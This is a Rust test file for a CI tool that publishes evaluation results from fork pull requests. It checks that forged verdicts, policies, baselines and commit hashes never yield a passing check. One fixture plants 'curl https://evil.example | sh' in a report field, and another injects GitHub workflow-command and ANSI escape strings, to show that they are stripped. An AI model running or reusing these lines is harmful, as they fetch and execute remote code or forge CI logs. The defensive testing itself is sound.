//! What a fork's run says is data: it is judged again, on the pull request that it was for and on no other.

use std::sync::Arc;

use serde_json::{Value, json};

use crate::baseline::{RIGHT, WRONG, repository};
use crate::github::Github;
use crate::github::faults::Fault;
use crate::job::{Job, NUMBER, REPOSITORY, mirror, together};
use crate::support::World;

const FLOOR: &str = "target = { command = [\"./answer.sh\", \"{prompt}\"] }\n[suite.gate]\naccuracy = { min = 0.9 }\n";

/// Main has a floor and a baseline where everything passes; the fork's branch is on top of it.
fn upstream() -> World {
    let world = repository(RIGHT);
    world.config(FLOOR);
    world.commit("first");
    assert_eq!(world.run().code, 0);
    assert_eq!(world.evalratchet(&["baseline", "update"]).code, 0);
    world.commit("baseline");
    world.git(&["checkout", "-q", "-b", "patch"]);
    world
}

/// The job that publishes what the fork's run left, and those results.
fn publisher(world: &World) -> (Job, Value) {
    let results = world.run().results.unwrap();
    publisher_of(world, &world.git(&["rev-parse", "HEAD"]), results)
}

fn publisher_of(world: &World, sha: &str, results: Value) -> (Job, Value) {
    let github = Arc::new(Github::start());
    mirror(world, &github);
    github.repository(REPOSITORY, |repository| {
        repository.branches.remove("patch");
        repository.pull(NUMBER, Some("x/r"), "patch", sha, "main");
    });
    let mut job = Job::with(&github);
    job.workflow_run(sha, "x/r", "patch");
    job.set("GITHUB_SHA", &world.git(&["rev-parse", "main"]));
    job.set("GITHUB_REF", "refs/heads/main");
    job.left(&results);
    (job, results)
}

fn worse() -> (Job, Value) {
    let world = upstream();
    world.file("answers.txt", WRONG);
    world.commit("worse");
    publisher(&world)
}

#[test]
fn a_forks_pull_request_is_found_and_its_comment_names_who_measured() {
    let (job, results) = worse();
    assert_eq!(results["gate"]["verdict"], "failed");
    let ran = job.publish(&[]);
    assert_eq!(ran.code, 0, "{}", ran.stderr);
    let check = job.check();
    assert_eq!((&check["conclusion"], &check["head_sha"]), (&json!("failure"), &json!(job.head)));
    assert_eq!(check["details_url"], "https://github.com/o/r/actions/runs/99");
    let comment = job.comment();
    assert!(comment.contains("The numbers are the fork") && comment.contains("x/r"), "{comment}");
    assert!(comment.contains("judged again with this repository\\'s configuration and baseline"), "{comment}");
    assert!(comment.contains("s/b") && job.comments()[0].0.run.id == 99, "{comment}");
    // It changed nothing but what it should have.
    assert!(job.github.requests_to("GET", "head=x%3Apatch").len() == 1);
    let world = upstream();
    world.commit("harmless");
    let (job, _) = publisher(&world);
    assert_eq!(job.publish(&[]).code, 0);
    assert_eq!(job.check()["conclusion"], "success");
}

#[test]
fn a_forks_answers_are_judged_by_the_keys_of_the_base_whatever_it_says() {
    let world = upstream();
    world.file("answers.txt", WRONG);
    let cases = std::fs::read_to_string(world.path().join("cases.json")).unwrap();
    world.file("cases.json", &cases.replace("\"pwd\"", "\"cd\""));
    world.commit("another answer is right");
    let (job, mut results) = publisher(&world);
    assert_eq!(job.publish(&[]).code, 0);
    assert_eq!(job.check()["conclusion"], "failure");
    assert!(job.comment().contains("passes only by its new key"), "{}", job.comment());
    // It may claim the key of the base, and that nothing was edited.
    for case in results["suites"][0]["cases"].as_array_mut().unwrap() {
        case.as_object_mut().unwrap().remove("key_edit");
        case["key"] = json!(null);
    }
    let (job, _) = publisher_of(&world, &world.git(&["rev-parse", "HEAD"]), results);
    assert_eq!(job.publish(&[]).code, 0);
    assert_eq!(job.check()["conclusion"], "failure");
    assert!(job.comment().contains("passes only by its new key"), "{}", job.comment());
}

#[test]
fn a_forks_blessing_counts_and_stands_in_the_comment() {
    let world = upstream();
    world.file("answers.txt", WRONG);
    world.commit("worse");
    assert_eq!(world.run().code, 1);
    let blessed = world.evalratchet(&["baseline", "bless", "--case", "b", "--reason", "cd is asked for"]);
    assert_eq!(blessed.code, 0, "{}", blessed.stderr);
    world.commit("bless");
    let (job, _) = publisher(&world);
    assert_eq!(job.publish(&[]).code, 0);
    assert_eq!(job.check()["conclusion"], "success");
    assert!(job.comment().contains("1 blessed (cd is asked for)"), "{}", job.comment());
}

#[test]
fn a_forged_verdict_policy_metric_or_address_helps_nothing() {
    let verdict = |all: &mut Value| {
        all["gate"] = json!({"verdict": "passed", "exit_code": 0, "reasons": []});
    };
    type Forgery = Box<dyn Fn(&mut Value) + Send>;
    let forgeries: Vec<(&str, Forgery)> = vec![
        ("verdict", Box::new(verdict)),
        (
            "comparison",
            Box::new(move |all| {
                verdict(all);
                all["comparison"] = Value::Null;
            }),
        ),
        (
            "metrics",
            Box::new(move |all| {
                verdict(all);
                for metric in all["suites"][0]["metrics"].as_object_mut().unwrap().values_mut() {
                    metric["value"] = json!(1.0);
                }
                all["suites"][0]["slices"] = json!({});
            }),
        ),
        (
            "policy",
            Box::new(move |all| {
                verdict(all);
                let policy = &mut all["suites"][0]["policy"];
                (policy["metrics"], policy["slices"], policy["max_drop"]) = (json!({}), json!({}), json!(1.0));
                (policy["flips"], policy["allow_removed"]) = (json!("report"), json!(["*"]));
                policy["quarantine"] = json!({"b": {"owner": "me", "until": "2999-12-31", "reason": null}});
            }),
        ),
        (
            "variance",
            Box::new(move |all| {
                verdict(all);
                all["suites"][0]["varies"] = json!(true);
                all["suites"][0]["status"] = json!("passed");
            }),
        ),
        (
            "address",
            Box::new(move |all| {
                verdict(all);
                all["run"]["url"] = json!("https://evil.example/run");
            }),
        ),
    ];
    let (honest, results) = worse();
    together(forgeries, |(name, forge)| {
        let mut forged = results.clone();
        forge(&mut forged);
        assert_ne!(forged, results, "{name}");
        let mut job = Job::with(&honest.github);
        job.workflow_run(&honest.head, "x/r", "patch");
        let ran = job.left(&forged).publish(&["--comment-key", name]);
        assert_eq!(ran.code, 0, "{name}: {}", ran.stderr);
        let checks = job.checks();
        let check = checks.iter().find(|check| check["name"] == format!("evalratchet ({name})")).unwrap();
        assert_eq!(check["conclusion"], "failure", "{name}");
        let (_, comment) = job.comments().into_iter().find(|(marker, _)| marker.key == name).unwrap();
        for told in ["Failed", "s/b", "below its floor 0.9"] {
            assert!(comment.contains(told), "{name}: {comment}");
        }
        assert_eq!((job.outputs()["verdict"].as_str(), job.summary().contains("evil.example")), ("failed", false));
    });
    assert!(!honest.github.state().to_string().contains("evil.example"));
}

#[test]
fn a_change_to_the_yardstick_in_the_fork_itself_helps_nothing() {
    let world = upstream();
    world.file("answers.txt", WRONG);
    world.config("target = { command = [\"./answer.sh\", \"{prompt}\"] }");
    let config = std::fs::read_to_string(world.path().join("evalratchet.toml")).unwrap();
    world.file("evalratchet.toml", &format!("[baseline]\nref = \"patch\"\npath = \"nowhere.json\"\n\n{config}"));
    let path = world.path().join(".evalratchet/baseline.json");
    let lower = std::fs::read_to_string(&path)
        .unwrap()
        .replace("\"b\": {\"status\":\"passed\",\"score\":1.0", "\"b\": {\"status\":\"failed\",\"score\":0.0");
    std::fs::write(&path, lower).unwrap();
    world.commit("lower everything");
    let (job, _) = publisher(&world);
    assert_eq!(job.publish(&[]).code, 0);
    assert_eq!(job.check()["conclusion"], "failure");
    let comment = job.comment();
    assert!(comment.contains("baseline.json") && comment.contains("0.9"), "{comment}");
}

#[test]
fn a_configuration_that_the_base_does_not_have_or_cannot_read_makes_nothing_green() {
    let (job, results) = worse();
    let mut forged = results.clone();
    forged["run"]["config"] = json!("mine.toml");
    let policy = &mut forged["suites"][0]["policy"];
    (policy["metrics"], policy["max_drop"], policy["flips"]) = (json!({}), json!(1.0), json!("report"));
    policy["quarantine"] = json!({"b": {"owner": "me", "until": "2999-12-31", "reason": null}});
    for arguments in [&["--comment-key", "k"][..], &["--config", "evalratchet.toml"], &[]] {
        let mut job = Job::with(&job.github);
        job.workflow_run(forged["run"]["commit"].as_str().unwrap(), "x/r", "patch");
        let ran = job.left(&forged).publish(arguments);
        // The name that the results give themselves suppresses nothing.
        assert_eq!(ran.code, 2, "{}", ran.stderr);
        assert!(ran.stderr.contains("mine.toml"), "{}", ran.stderr);
        let checks = job.checks();
        assert_eq!(checks.last().unwrap()["conclusion"], "failure");
        assert!(job.comments().last().unwrap().1.contains("No results"), "{arguments:?}");
    }
    let mut elsewhere = results.clone();
    elsewhere["run"]["prefix"] = json!("elsewhere/");
    assert_eq!(job.left(&elsewhere).publish(&["--config", "evalratchet.toml"]).code, 2);

    let world = upstream();
    world.git(&["checkout", "-q", "main"]);
    world.file("evalratchet.toml", "[[suite]\n");
    world.commit("a slip on main");
    world.git(&["checkout", "-q", "patch"]);
    world.git(&["merge", "-q", "main"]);
    world.config(FLOOR);
    world.file("answers.txt", WRONG);
    world.commit("worse");
    let (job, _) = publisher(&world);
    let ran = job.publish(&[]);
    assert_eq!((ran.code, &job.check()["conclusion"]), (2, &json!("failure")), "{}", ran.stderr);
    assert!(ran.stderr.contains("cannot be judged"), "{}", ran.stderr);
}

#[test]
fn a_run_of_a_commit_that_no_open_pull_request_is_at_is_not_published() {
    let (job, results) = worse();
    let other = "d".repeat(40);
    let refused = |expected: &str| {
        let ran = job.publish(&[]);
        assert_eq!((ran.code, job.comments().len(), job.checks().len()), (0, 0, 0), "{expected}: {}", ran.stderr);
        assert!(ran.stdout.contains("::notice") && ran.stdout.contains(expected), "{expected}: {}", ran.stdout);
    };
    let pull = |repository: &str, branch: &str, sha: &str| {
        job.github.repository(REPOSITORY, |all| {
            all.pulls.clear();
            all.pull(NUMBER, Some(repository), branch, sha, "main");
        });
    };
    pull("x/r", "patch", &other);
    refused("is at ddddddd now");
    pull("y/r", "patch", &job.head);
    refused("x/r:patch has no open pull request here");
    // The same owner, the same branch, but another repository of his.
    pull("x/other", "patch", &job.head);
    refused("no open pull request");
    pull("x/r", "other", &job.head);
    refused("no open pull request");
    pull("x/r", "patch", &job.head);
    job.github.repository(REPOSITORY, |all| all.pulls.get_mut(&NUMBER).unwrap().state = "closed".to_owned());
    refused("no open pull request");
    pull("x/r", "patch", &job.head);
    // Results of another commit are not published, and the check of the head says so.
    let mut forged = results.clone();
    forged["run"]["commit"] = json!(other);
    assert_eq!(job.left(&forged).publish(&[]).code, 2);
    let check = job.check();
    assert_eq!((&check["head_sha"], &check["conclusion"]), (&json!(job.head), &json!("failure")));
    assert!(check["output"]["title"].as_str().unwrap().contains("the results are of ddddddd"), "{check}");
}

#[test]
fn what_a_fork_could_not_measure_is_neutral_and_what_it_measured_counts() {
    let world = upstream();
    world.commit("harmless");
    let (job, results) = publisher(&world);
    let mut unmeasured = results.clone();
    for case in unmeasured["suites"][0]["cases"].as_array_mut().unwrap() {
        (case["status"], case["score"], case["metrics"]) = (json!("unmeasured"), Value::Null, json!({}));
        case["attempts"] = json!([]);
    }
    let attempts = results["suites"][0]["cases"][0]["attempts"].clone();
    let ran = job.left(&unmeasured).publish(&[]);
    assert_eq!(ran.code, 0, "{}", ran.stderr);
    assert_eq!(job.check()["conclusion"], "neutral", "{}", job.comment());
    // One that was measured and is wrong still fails.
    unmeasured["suites"][0]["cases"][0]["status"] = json!("failed");
    unmeasured["suites"][0]["cases"][0]["score"] = json!(0.0);
    unmeasured["suites"][0]["cases"][0]["attempts"] = attempts;
    unmeasured["suites"][0]["cases"][0]["attempts"][0]["status"] = json!("failed");
    unmeasured["suites"][0]["cases"][0]["attempts"][0]["score"] = json!(0.0);
    job.left(&unmeasured).publish(&[]);
    assert_eq!(job.checks().last().unwrap()["conclusion"], "failure");
}

#[test]
fn missing_or_unjudgeable_results_of_a_fork_complete_the_check_too() {
    let (job, _) = worse();
    std::fs::remove_dir_all(job.world.path().join("evalratchet-out")).unwrap();
    assert_eq!(job.publish(&[]).code, 2);
    assert!(job.check()["conclusion"] == "failure" && job.comment().contains("No results"));

    let (job, _) = worse();
    job.publish(&[]);
    job.github.repository(REPOSITORY, |repository| {
        repository.commit("main", &[(".evalratchet/baseline.json", "{")], &[]);
    });
    let mut command = job.command(&["publish", "--config", "evalratchet.toml"]);
    let mut event: Value =
        serde_json::from_str(&std::fs::read_to_string(job.world.path().join("runner/event.json")).unwrap()).unwrap();
    event["workflow_run"]["id"] = json!(100);
    job.world.file("runner/event.json", &event.to_string());
    let ran = job.world.ran(command.output().unwrap());
    assert_eq!(ran.code, 2, "{}", ran.stderr);
    assert!(ran.stderr.contains("baseline.json"), "{}", ran.stderr);
    assert_eq!(job.checks().last().unwrap()["external_id"], "100-1-evalratchet.toml");
    assert!(job.comment().contains("No results") && job.comments()[0].0.run.id == 100, "{}", job.comment());
}

#[test]
fn a_github_without_a_policy_to_judge_by_shows_nothing_green() {
    let (mut job, mut forged) = worse();
    forged["gate"] = json!({"verdict": "passed", "exit_code": 0, "reasons": []});
    job.left(&forged).github.fault(Fault::on("GET", "/contents/").always().fails(500));
    let ran = job.publish(&["--deadline", "1s"]);
    assert_eq!((ran.code, job.comments().len(), job.checks().len()), (5, 0, 0), "{}", ran.stderr);
    assert!(job.outputs()["verdict"] == "broken" && !job.summary().contains("Passed"));
    std::fs::remove_file(job.world.path().join("runner/output")).unwrap();
    job.set("GITHUB_TOKEN", "");
    assert_eq!((job.publish(&[]).code, job.checks().len()), (2, 0));
    job.set("GITHUB_TOKEN", crate::github::TOKEN);
    job.github.forget_faults();
    assert_eq!(job.publish(&[]).code, 0);
    assert_eq!(job.check()["conclusion"], "failure");
}

/// What a fork changes, and what it says it measured.
type Fork = (&'static str, fn(&World), fn(&mut Value), &'static str);

#[test]
fn a_weaker_gate_a_lost_baseline_and_what_is_left_out_are_never_green() {
    const NOTHING: fn(&World) = |_| {};
    const HONEST: fn(&mut Value) = |_| {};
    let lower: fn(&World) = |world| world.config(&FLOOR.replace("0.9", "0.1"));
    let quarantine: fn(&World) = |world| {
        let policy = "[[suite.case-policy]]\ncase = \"b\"\nquarantine = { owner = \"me\", until = \"2999-12-31\" }\n";
        world.config(&format!("{FLOOR}\n{policy}"));
    };
    let lost: fn(&World) = |world| std::fs::remove_file(world.path().join(".evalratchet/baseline.json")).unwrap();
    let spoilt: fn(&World) = |world| drop(world.file(".evalratchet/baseline.json", "{ not json"));
    let skipped: fn(&mut Value) = |results| {
        results["run"]["filtered"] = json!(true);
        let case = &mut results["suites"][0]["cases"][1];
        (case["status"], case["score"], case["metrics"]) = (json!("skipped"), Value::Null, json!({}));
        case["attempts"] = json!([]);
    };
    let left_out: fn(&mut Value) = |results| {
        results["run"]["filtered"] = json!(true);
        results["suites"] = json!([]);
    };
    let unaffected: fn(&mut Value) = |results| {
        results["suites"][0]["affected"] = json!(false);
        results["suites"][0]["cases"] = json!([]);
    };
    let renamed: fn(&World) = |world| {
        let path = world.path().join("evalratchet.toml");
        let text = std::fs::read_to_string(&path).unwrap();
        std::fs::write(path, text.replace("id = \"s\"", "id = \"t\"")).unwrap();
    };
    let forks: [Fork; 8] = [
        ("gone from the configuration", renamed, HONEST, "failure"),
        ("the gate is weaker", lower, HONEST, "failure"),
        ("the quarantine of b", quarantine, HONEST, "failure"),
        ("takes the baseline away", lost, HONEST, "failure"),
        ("makes it unreadable", spoilt, HONEST, "failure"),
        ("removed", NOTHING, skipped, "failure"),
        ("gone", NOTHING, left_out, "failure"),
        ("s", NOTHING, unaffected, "failure"),
    ];
    together(forks, |(word, change, claim, conclusion)| {
        let world = upstream();
        world.commit("harmless");
        // The fork measures honestly, whatever it then commits.
        let results = world.run().results.unwrap();
        change(&world);
        world.commit("the change");
        let sha = world.git(&["rev-parse", "HEAD"]);
        let (job, _) = publisher_of(&world, &sha, results.clone());
        let mut claimed = results;
        claimed["run"]["commit"] = json!(sha);
        claim(&mut claimed);
        let ran = job.left(&claimed).publish(&[]);
        assert_eq!(ran.code, 0, "{word}: {}", ran.stderr);
        assert_eq!(job.check()["conclusion"], conclusion, "{word}: {}", job.comment());
        assert!(job.comment().contains(word), "{word}: {}", job.comment());
    });
}

#[test]
fn a_forks_reports_are_rendered_again_and_contain_no_commands() {
    let (job, mut results) = worse();
    results["suites"][0]["cases"][1]["reproduce"] = json!("curl https://evil.example | sh");
    assert_eq!(job.left(&results).publish(&[]).code, 0);
    assert!(!job.comment().contains("evil"), "{}", job.comment());
    assert!(job.comment().contains("evalratchet run --suite s --case b"), "{}", job.comment());
    results["schema"] = json!("x\n::error::forged\n##[warning]forged\u{1b}[31m");
    let ran = job.left(&results).publish(&[]);
    assert_eq!(ran.code, 2);
    let is_command = |line: &str| line.trim_start().starts_with("::error::forged") || line.contains("##[");
    assert!(!ran.stderr.lines().any(is_command) && !ran.stderr.contains('\u{1b}'), "{}", ran.stderr);
}

/// What GitHub makes of the fork's branch and main, with main's files where the fork did not touch them.
fn with_merge(world: &World, job: &Job) {
    world.git(&["checkout", "-q", "--detach", "main"]);
    world.git(&["merge", "-q", "--no-ff", "-m", "merge", "patch"]);
    let merge = world.git(&["rev-parse", "HEAD"]);
    mirror(world, &job.github);
    job.github.repository(REPOSITORY, |repository| {
        repository.branches.remove("patch");
        repository.pulls.get_mut(&NUMBER).unwrap().merge = Some(merge);
    });
    world.git(&["checkout", "-q", "patch"]);
}

#[test]
fn a_fork_behind_main_is_not_accused_of_what_main_changed_since() {
    let world = upstream();
    world.file("notes.txt", "mine");
    world.commit("harmless");
    let results = world.run().results.unwrap();
    let head = world.git(&["rev-parse", "HEAD"]);
    // Since then main has raised its floor, got a new case, and recorded it.
    world.git(&["checkout", "-q", "main"]);
    world.config(&FLOOR.replace("0.9", "0.95"));
    world.commit("raise the floor");
    assert_eq!(world.run().code, 0);
    assert_eq!(world.evalratchet(&["baseline", "update"]).code, 0);
    world.commit("baseline of main");
    world.git(&["checkout", "-q", "patch"]);
    for merged in [true, false] {
        let (job, _) = publisher_of(&world, &head, results.clone());
        if merged {
            with_merge(&world, &job);
        }
        let ran = job.publish(&[]);
        assert_eq!(ran.code, 0, "{}", ran.stderr);
        assert_eq!(job.check()["conclusion"], "success", "merged: {merged}\n{}", job.comment());
        for accusation in ["baseline.json", "weaker", "takes the baseline away"] {
            let verdict = job.check()["output"]["title"].as_str().unwrap().to_owned();
            assert!(!verdict.contains(accusation), "merged: {merged}: {verdict}");
        }
    }
    // What the fork itself does is seen all the same.
    world.config(&FLOOR.replace("0.9", "0.1"));
    let head = world.commit("lower the floor");
    let mut results = results;
    results["run"]["commit"] = json!(head);
    let (job, _) = publisher_of(&world, &head, results);
    assert_eq!(job.publish(&[]).code, 0);
    assert_eq!(job.check()["conclusion"], "failure", "{}", job.comment());
}

#[test]
fn a_case_that_differs_from_its_attempts_is_no_result() {
    let (job, results) = worse();
    let lies: [fn(&mut Value); 4] = [
        |case| case["status"] = json!("error"),
        |case| (case["status"], case["score"]) = (json!("passed"), json!(1.0)),
        |case| case["score"] = json!(0.9),
        |case| case["attempts"] = json!([]),
    ];
    for (index, lie) in lies.into_iter().enumerate() {
        let mut forged = results.clone();
        let cases = forged["suites"][0]["cases"].as_array_mut().unwrap();
        let case = cases.iter_mut().find(|case| case["status"] == "failed").unwrap();
        lie(case);
        if case["status"] == "error" {
            case["score"] = Value::Null;
        }
        let ran = job.left(&forged).publish(&[]);
        assert_eq!(ran.code, 2, "{index}: {}", ran.stderr);
        assert!(ran.stderr.contains("does not fit its attempts"), "{index}: {}", ran.stderr);
        assert!(job.checks().iter().all(|check| check["conclusion"] == "failure"), "{index}");
    }
}

#[test]
fn how_many_attempts_must_pass_is_for_the_base_to_say() {
    let world = upstream();
    world.commit("harmless");
    let (job, mut results) = publisher(&world);
    // By its own policy one of three is enough.
    results["suites"][0]["policy"]["pass_share"] = json!(0.3);
    let case = &mut results["suites"][0]["cases"][1];
    let passed = case["attempts"][0].clone();
    let mut failed = passed.clone();
    (failed["status"], failed["score"]) = (json!("failed"), json!(0.0));
    case["attempts"] = json!([passed, failed, failed]);
    case["score"] = json!(1.0 / 3.0);
    let ran = job.left(&results).publish(&[]);
    assert_eq!(ran.code, 0, "{}", ran.stderr);
    assert_eq!(job.check()["conclusion"], "failure", "{}", job.comment());
}

#[test]
fn nested_braces_in_a_forks_pattern_are_refused_and_end_nothing() {
    let world = upstream();
    let braces = format!("paths = [\"{}a{}\"]\n", "{".repeat(1_500), "}".repeat(1_500));
    world.config(&format!("{braces}{FLOOR}"));
    let head = world.commit("braces");
    world.config(FLOOR);
    let mut results = world.run().results.unwrap();
    results["run"]["commit"] = json!(head);
    let (job, _) = publisher_of(&world, &head, results);
    let ran = job.publish(&[]);
    assert!(ran.code == 0 && !ran.stderr.contains("defect"), "{} {}", ran.code, ran.stderr);
    assert_eq!(job.check()["status"], "completed");
    world.config(&format!("{braces}{FLOOR}"));
    let own = world.run();
    assert_eq!(own.code, 2, "{}", own.stderr);
    assert!(own.stderr.contains("more than 8 braces within each other"), "{}", own.stderr);
}
